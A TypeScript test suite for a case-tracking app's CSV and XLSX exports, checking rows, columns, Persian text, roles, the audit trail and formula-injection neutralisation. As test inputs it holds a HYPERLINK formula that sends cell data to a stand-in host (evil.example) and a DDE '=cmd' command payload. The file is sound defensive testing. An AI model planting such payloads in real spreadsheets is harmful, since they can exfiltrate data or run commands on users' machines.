// Case-table exports (GET /api/export/cases.csv and .xlsx) on the demo data plus records of
// their own: the file holds exactly the rows of the table's view (compared with
// listCaseTable, page after page) in its order and its visible columns; CSV read back with
// a real parser (csv-parse), XLSX read back with exceljs; formula payloads neutralised;
// Persian text intact; roles and the audit entry.
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { ForbiddenError, type Actor } from "@/lib/authz";
import { listCaseTable, type CaseTableRow } from "@/lib/data/case-table";
import { importDemoDataset, loadDemoDatasetFile } from "@/lib/data/demo-import";
import { openCaseExport } from "@/lib/data/export-cases";
import { refreshCaseEventSummaries } from "@/lib/data/case-derived";
import { db } from "@/lib/db";
import { normalizeName } from "@/lib/domain/normalize-name";
import type { DatePrecision } from "@/lib/domain/types";
import { caseExportResponse } from "@/lib/export/case-export-response";
import type { CaseFilters } from "@/lib/validation/case-filters";
import { CASE_TABLE_COLUMNS, DEFAULT_CASE_COLUMNS, type CaseSort, type CaseTableColumn } from "@/lib/validation/case-table";
import messages from "@/messages/en.json";
import { createPersonWithCase, createUser, RESTRICTED_NOTE, CONFIDENTIAL_TITLE, unique } from "../support/factories";

// The route resolves the session through next-auth and the catalog through next-intl, which
// need a Next.js request; here the acting user is whoever the test says.
const session = vi.hoisted(() => ({ actor: null as Actor | null }));
vi.mock("@/lib/auth/session", () => ({ getActor: async () => session.actor, passwordChangePending: async () => false }));
vi.mock("next-intl/server", async () => ({ getLocale: async () => "en", getMessages: async () => (await import("@/messages/en.json")).default }));

let viewer: Actor;
let editor: Actor;
let admin: Actor;

const FORMULA_CITY = "Formulaville";
const FORMULA_NAMES = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx"];
const PERSIAN_CITY = "Ardabil-fa-test";
const PERSIAN_NAME = "فاطمه ابراهیم‌زاده";
const PERSIAN_ALIAS = 'Fatemeh Ebrahimzadeh, "Fati"';

/** A person (names normalised as every writer stores them) with one case and the given events. */
async function personWithCase(input: {
  name: string;
  aliases?: string[];
  city: string;
  arrest: { date: string; precision: DatePrecision };
  sentence?: { lashes: number; prisonDays: number };
}) {
  const person = await db().person.create({
    data: {
      key: unique("p"),
      name: input.name,
      nameNormalized: normalizeName(input.name),
      aliases: { create: (input.aliases ?? []).map((name) => ({ name, nameNormalized: normalizeName(name) })) },
    },
  });
  const arrestDate = new Date(`${input.arrest.date}T00:00:00Z`);
  const created = await db().case.create({
    data: {
      key: unique("c"),
      personId: person.id,
      status: input.sentence ? "SENTENCED" : "DETAINED",
      statusDate: arrestDate,
      statusDatePrecision: input.arrest.precision,
      arrestCity: input.city,
      arrestDate,
      arrestDatePrecision: input.arrest.precision,
      effectiveLashes: input.sentence?.lashes ?? null,
      effectivePrisonDays: input.sentence?.prisonDays ?? null,
      events: {
        create: [
          { position: 0, type: "ARREST", date: arrestDate, datePrecision: input.arrest.precision, city: input.city },
          ...(input.sentence
            ? [
                {
                  position: 1,
                  type: "SENTENCE" as const,
                  lashes: input.sentence.lashes,
                  prisonDays: input.sentence.prisonDays,
                  charges: { create: [{ text: "=cmd|' /C calc'!A0", article: "Article 500" }] },
                },
              ]
            : []),
        ],
      },
    },
  });
  // What the app writes after any change to the events: the summaries the table shows.
  await db().$transaction((tx) => refreshCaseEventSummaries(tx, [created.id]));
  return created;
}

beforeAll(async () => {
  await importDemoDataset(await loadDemoDatasetFile());
  viewer = await createUser("VIEWER");
  editor = await createUser("EDITOR");
  admin = await createUser("ADMIN");
  for (const [i, name] of FORMULA_NAMES.entries()) {
    await personWithCase({
      name,
      aliases: i === 0 ? ["-alias", "@alias"] : [],
      city: FORMULA_CITY,
      arrest: { date: `2021-0${i + 1}-15`, precision: "DAY" },
      sentence: { lashes: 10 + i, prisonDays: 365 },
    });
  }
  await personWithCase({ name: PERSIAN_NAME, aliases: [PERSIAN_ALIAS, "Line\nbreak"], city: PERSIAN_CITY, arrest: { date: "2020-10-01", precision: "MONTH" } });
  await personWithCase({ name: "Year Only Person", city: PERSIAN_CITY, arrest: { date: "2019-01-01", precision: "YEAR" } });
  await createPersonWithCase();
});

/** Every row of a view, page after page, as the table shows it. */
async function tableRows(filters: CaseFilters, sort?: CaseSort[]): Promise<CaseTableRow[]> {
  const rows: CaseTableRow[] = [];
  for (let page = 1; ; page++) {
    const result = await listCaseTable(editor, { filters, sort, page, pageSize: 100 });
    rows.push(...result.rows);
    if (rows.length >= result.total || result.rows.length === 0) return rows;
  }
}

// ---- what each exported row must say, written out independently of lib/export -------------

const PRECISION_WORD: Record<DatePrecision, string> = { DAY: "day", MONTH: "month", YEAR: "year", UNKNOWN: "unknown" };

function partial(value: { date: string | null; precision: DatePrecision }): string {
  if (value.date === null || value.precision === "UNKNOWN") return "";
  return value.precision === "YEAR" ? value.date.slice(0, 4) : value.precision === "MONTH" ? value.date.slice(0, 7) : value.date;
}

function quoteFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/** The CSV fields of one table row for the given visible columns. */
function expectedCsvRow(row: CaseTableRow, columns: readonly CaseTableColumn[]): string[] {
  const text = (v: string | null | undefined) => (v == null ? "" : quoteFormula(v));
  const num = (v: number | null) => (v === null ? "" : String(v));
  const precision = (v: { date: string | null; precision: DatePrecision }) => (partial(v) === "" ? "" : PRECISION_WORD[v.precision]);
  const out: string[] = [];
  for (const c of columns) {
    if (c === "person") out.push(text(row.person.name), text(row.person.aliases.join("; ") || null));
    if (c === "city") out.push(text(row.city));
    if (c === "incident") out.push(text(row.incident?.title));
    if (c === "arrestDate") out.push(partial(row.arrest), precision(row.arrest));
    if (c === "status") out.push(messages.status[row.status.value], partial(row.status), precision(row.status));
    if (c === "facility") out.push(text(row.facility?.name));
    if (c === "court") out.push(text(row.court?.name), text(row.court?.branch));
    if (c === "charges")
      out.push(text(row.charges.map((ch) => (ch.text && ch.article ? `${ch.text} (${ch.article})` : (ch.text ?? ch.article ?? ""))).join("; ") || null));
    if (c === "firstInstancePrisonDays") out.push(num(row.firstInstance.prisonDays));
    if (c === "firstInstanceLashes") out.push(num(row.firstInstance.lashes));
    if (c === "effectivePrisonDays") out.push(num(row.effective.prisonDays));
    if (c === "effectiveLashes") out.push(num(row.effective.lashes));
    if (c === "updatedAt") out.push(row.updatedAt);
  }
  return out;
}

const HEADERS: Record<CaseTableColumn, string[]> = {
  person: ["Person", "Also spelled"],
  city: ["Arrest city"],
  incident: ["Incident"],
  arrestDate: ["Arrested", "Arrest date precision"],
  status: ["Last known status", "Status date", "Status date precision"],
  facility: ["Current facility"],
  court: ["Court", "Court branch"],
  charges: ["Charges"],
  firstInstancePrisonDays: ["First-instance prison (days)"],
  firstInstanceLashes: ["First-instance lashes"],
  effectivePrisonDays: ["Effective prison (days)"],
  effectiveLashes: ["Effective lashes"],
  updatedAt: ["Last updated (UTC)"],
};

// ---- calling the route ----------------------------------------------------------------

async function get(format: "csv" | "xlsx", query: string, actor: Actor | null = editor): Promise<Response> {
  session.actor = actor;
  return caseExportResponse(new Request(`http://localhost/api/export/cases.${format}?${query}`), format);
}

async function csvOf(query: string): Promise<{ bytes: Buffer; records: string[][]; response: Response }> {
  const response = await get("csv", query);
  expect(response.status).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  const records = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
  return { bytes, records, response };
}

async function xlsxOf(query: string): Promise<ExcelJS.Worksheet> {
  const response = await get("xlsx", query);
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error("no worksheet");
  return sheet;
}

const ALL_COLUMNS = `cols=${CASE_TABLE_COLUMNS.join(",")}`;

describe("CSV holds exactly the rows and columns of the table's view", () => {
  const views: { name: string; query: string; filters: CaseFilters; sort?: CaseSort[]; columns: readonly CaseTableColumn[] }[] = [
    { name: "every case, default columns and order", query: "", filters: {}, columns: DEFAULT_CASE_COLUMNS },
    { name: "a city, every column", query: `city=Tabriz&${ALL_COLUMNS}`, filters: { city: "Tabriz" }, columns: CASE_TABLE_COLUMNS },
    {
      name: "two statuses, sorted by lashes then person",
      query: `status=IMPRISONED&status=SENTENCED&sort=-effectiveLashes,person&${ALL_COLUMNS}`,
      filters: { status: ["IMPRISONED", "SENTENCED"] },
      sort: [
        { key: "effectiveLashes", desc: true },
        { key: "person", desc: false },
      ],
      columns: CASE_TABLE_COLUMNS,
    },
    {
      name: "a name search ranked by similarity",
      query: "q=Ibrahimzade&cols=person,city,status",
      filters: { q: "Ibrahimzade" },
      columns: ["person", "city", "status"],
    },
    {
      name: "an arrest-date range with a sentence, oldest first, page and page size ignored",
      query: `arrestFrom=2020-07-01&arrestTo=2021-12-31&hasSentence=true&sort=arrestDate&page=3&pageSize=25&${ALL_COLUMNS}`,
      filters: { arrestFrom: "2020-07-01", arrestTo: "2021-12-31", hasSentence: "true" },
      sort: [{ key: "arrestDate", desc: false }],
      columns: CASE_TABLE_COLUMNS,
    },
  ];

  for (const view of views) {
    it(view.name, async () => {
      const expected = await tableRows(view.filters, view.sort);
      expect(expected.length).toBeGreaterThan(0);
      const { records, response } = await csvOf(view.query);
      const [header, ...rows] = records;
      expect(header).toEqual(view.columns.flatMap((c) => HEADERS[c]));
      expect(rows).toEqual(expected.map((r) => expectedCsvRow(r, view.columns)));
      expect(response.headers.get("x-export-rows")).toBe(String(expected.length));
    });
  }

  it("streams a ranked name search in batches of 2 (the helper transactions set the search threshold too)", async () => {
    const expected = await tableRows({ q: "Ibrahimzade" });
    expect(expected.length).toBeGreaterThan(2);
    const exported = await openCaseExport(
      editor,
      { format: "csv", filters: { q: "Ibrahimzade" }, sort: null, columns: DEFAULT_CASE_COLUMNS },
      { batchSize: 2 },
    );
    const rows: CaseTableRow[] = [];
    for await (const batch of exported.batches) rows.push(...batch);
    expect(rows.map((r) => r.id)).toEqual(expected.map((r) => r.id));
    expect(rows.map((r) => r.score)).toEqual(expected.map((r) => r.score));
  });

  it("streams many batches through the cursor in the table's order (batches of 7 rows)", async () => {
    const expected = await tableRows({}, [{ key: "person", desc: false }]);
    const exported = await openCaseExport(
      editor,
      { format: "csv", filters: {}, sort: [{ key: "person", desc: false }], columns: DEFAULT_CASE_COLUMNS },
      { batchSize: 7 },
    );
    const batches: CaseTableRow[][] = [];
    for await (const batch of exported.batches) batches.push(batch);
    expect(batches.length).toBe(Math.ceil(expected.length / 7));
    expect(exported.total).toBe(expected.length);
    expect(batches.flat()).toEqual(expected);
  });
});

describe("CSV encoding", () => {
  it("starts with a UTF-8 byte order mark, ends lines with CRLF and keeps Persian text and quotes intact", async () => {
    const { bytes, records } = await csvOf(`city=${PERSIAN_CITY}&sort=person`);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text.split("\r\n")[0]).toBe(
      "\uFEFFPerson,Also spelled,Arrest city,Incident,Arrested,Arrest date precision,Last known status,Status date,Status date precision,Court,Court branch,Charges,Effective prison (days),Effective lashes",
    );
    const persian = records.find((r) => r[0] === PERSIAN_NAME);
    expect(persian?.[1]).toBe(`${PERSIAN_ALIAS}; Line\nbreak`);
    // Month and year precision print as the period, with the precision named.
    expect(persian?.slice(4, 6)).toEqual(["2020-10", "month"]);
    expect(records.find((r) => r[0] === "Year Only Person")?.slice(4, 6)).toEqual(["2019", "year"]);
    // RFC 4180: the comma and the quotes of the alias are quoted, quotes doubled.
    expect(text).toContain(`"Fatemeh Ebrahimzadeh, ""Fati""; Line\nbreak"`);
  });

  it("neutralises cells that would run as formulas, and leaves numbers and dates alone", async () => {
    const { records } = await csvOf(`city=${FORMULA_CITY}&sort=arrestDate`);
    const rows = records.slice(1);
    expect(rows.map((r) => r[0])).toEqual(FORMULA_NAMES.map((n) => `'${n}`));
    expect(rows[0]?.[1]).toBe("'-alias; @alias");
    // The charge starts with "=": quoted too.
    expect(rows[0]?.[11]).toBe("'=cmd|' /C calc'!A0 (Article 500)");
    expect(rows.map((r) => r[4])).toEqual(["2021-01-15", "2021-02-15", "2021-03-15", "2021-04-15", "2021-05-15", "2021-06-15"]);
    expect(rows.map((r) => r[13])).toEqual(["10", "11", "12", "13", "14", "15"]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("holds no restricted note or confidential source", async () => {
    const { bytes } = await csvOf(ALL_COLUMNS);
    const text = bytes.toString("utf8");
    expect(text).toContain("Test Person");
    expect(text).not.toContain(RESTRICTED_NOTE);
    expect(text).not.toContain(CONFIDENTIAL_TITLE);
  });
});

describe("XLSX", () => {
  it("has a frozen bold header row, real dates and numbers, and the table's rows", async () => {
    const expected = await tableRows({ city: FORMULA_CITY }, [{ key: "arrestDate", desc: false }]);
    const sheet = await xlsxOf(`city=${FORMULA_CITY}&sort=arrestDate&${ALL_COLUMNS}`);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    const header = sheet.getRow(1);
    expect(header.values).toEqual([undefined, ...CASE_TABLE_COLUMNS.flatMap((c) => HEADERS[c])]);
    expect(header.font?.bold).toBe(true);
    expect(sheet.rowCount).toBe(1 + expected.length);

    const col = (name: string) => CASE_TABLE_COLUMNS.flatMap((c) => HEADERS[c]).indexOf(name) + 1;
    for (const [i, row] of expected.entries()) {
      const cells = sheet.getRow(i + 2);
      // A workbook's line breaks are LF: the name "\rx" reads back as "'\nx".
      expect(cells.getCell(col("Person")).value).toBe(`'${row.person.name.replace(/\r/g, "\n")}`);
      const arrested = cells.getCell(col("Arrested"));
      expect(arrested.type).toBe(ExcelJS.ValueType.Date);
      expect(arrested.value).toEqual(new Date(`${row.arrest.date}T00:00:00Z`));
      expect(arrested.numFmt).toBe("yyyy-mm-dd");
      expect(cells.getCell(col("Arrest date precision")).value).toBe("day");
      const lashes = cells.getCell(col("Effective lashes"));
      expect(lashes.type).toBe(ExcelJS.ValueType.Number);
      expect(lashes.value).toBe(row.effective.lashes);
      expect(cells.getCell(col("Effective prison (days)")).value).toBe(365);
      const updated = cells.getCell(col("Last updated (UTC)"));
      expect(updated.type).toBe(ExcelJS.ValueType.Date);
      expect((updated.value as Date).toISOString()).toBe(row.updatedAt);
      // Empty cells stay empty (no "null", no 0).
      expect(cells.getCell(col("First-instance lashes")).value).toBeNull();
    }
    expect(sheet.getRow(2).getCell(col("Charges")).value).toBe("'=cmd|' /C calc'!A0 (Article 500)");
  });

  it("stores a month or year as text next to its precision, and keeps Persian text", async () => {
    const sheet = await xlsxOf(`city=${PERSIAN_CITY}&sort=person`);
    const rows = [2, 3].map((n) => sheet.getRow(n));
    const persian = rows.find((r) => r.getCell(1).value === PERSIAN_NAME);
    expect(persian?.getCell(2).value).toBe(`${PERSIAN_ALIAS}; Line\nbreak`);
    expect(persian?.getCell(5).value).toBe("2020-10");
    expect(persian?.getCell(5).type).toBe(ExcelJS.ValueType.String);
    expect(persian?.getCell(6).value).toBe("month");
    const yearOnly = rows.find((r) => r.getCell(1).value === "Year Only Person");
    expect(yearOnly?.getCell(5).value).toBe("2019");
  });
});

describe("roles, parameters and the audit trail", () => {
  it("refuses a VIEWER (403) and a caller without a session (401), and writes no audit entry for them", async () => {
    const before = await db().auditEntry.count({ where: { action: { startsWith: "export.cases" } } });
    for (const format of ["csv", "xlsx"] as const) {
      expect((await get(format, "", viewer)).status).toBe(403);
      expect((await get(format, "city=Tabriz&nope=1", viewer)).status).toBe(403);
      expect((await get(format, "", null)).status).toBe(401);
    }
    await expect(openCaseExport(viewer, { format: "csv", filters: {}, sort: null, columns: DEFAULT_CASE_COLUMNS })).rejects.toBeInstanceOf(ForbiddenError);
    expect(await db().auditEntry.count({ where: { action: { startsWith: "export.cases" } } })).toBe(before);
  });

  it("answers 400 naming an unknown or invalid parameter", async () => {
    for (const [query, field] of [
      ["nope=1", "nope"],
      ["arrestFrom=2020-13-01", "arrestFrom"],
      ["sort=password", "sort"],
      ["cols=person,secret", "cols"],
      ["city=a&city=b", "city"],
    ] as const) {
      const response = await get("csv", query, admin);
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ field });
    }
  });

  it("audits each export with its format, filters, sort, columns and row count", async () => {
    const response = await get("xlsx", "city=Tabriz&sort=person&cols=person,status", admin);
    await response.arrayBuffer();
    const rows = (await tableRows({ city: "Tabriz" })).length;
    const entry = await db().auditEntry.findFirst({ where: { action: "export.cases_xlsx", actorId: admin.id }, orderBy: { id: "desc" } });
    expect(entry?.after).toEqual({ filters: { city: "Tabriz" }, sort: [{ key: "person", desc: false }], columns: ["person", "status"], rows });

    await (await get("csv", "status=DETAINED", editor)).arrayBuffer();
    const csvEntry = await db().auditEntry.findFirst({ where: { action: "export.cases_csv", actorId: editor.id }, orderBy: { id: "desc" } });
    expect(csvEntry?.after).toMatchObject({ filters: { status: ["DETAINED"] }, sort: null, rows: (await tableRows({ status: ["DETAINED"] })).length });
  });

  it("ends every reading transaction when the reader stops after the first batch", async () => {
    const exported = await openCaseExport(editor, { format: "csv", filters: {}, sort: null, columns: DEFAULT_CASE_COLUMNS }, { batchSize: 5 });
    for await (const batch of exported.batches) {
      expect(batch).toHaveLength(5);
      break;
    }
    await expect
      .poll(
        async () =>
          (
            await db().$queryRaw<
              { n: number }[]
            >`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'`
          )[0]?.n,
        { timeout: 5000 },
      )
      .toBe(0);
  });

  it("ends the database transaction when the client stops reading", async () => {
    const response = await get("csv", "", editor);
    const reader = response.body!.getReader();
    await reader.read();
    await reader.cancel();
    // The reading transaction rolls back: no connection stays idle in a transaction.
    await expect
      .poll(
        async () =>
          (
            await db().$queryRaw<
              { n: number }[]
            >`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'`
          )[0]?.n,
        { timeout: 5000 },
      )
      .toBe(0);
  });
});
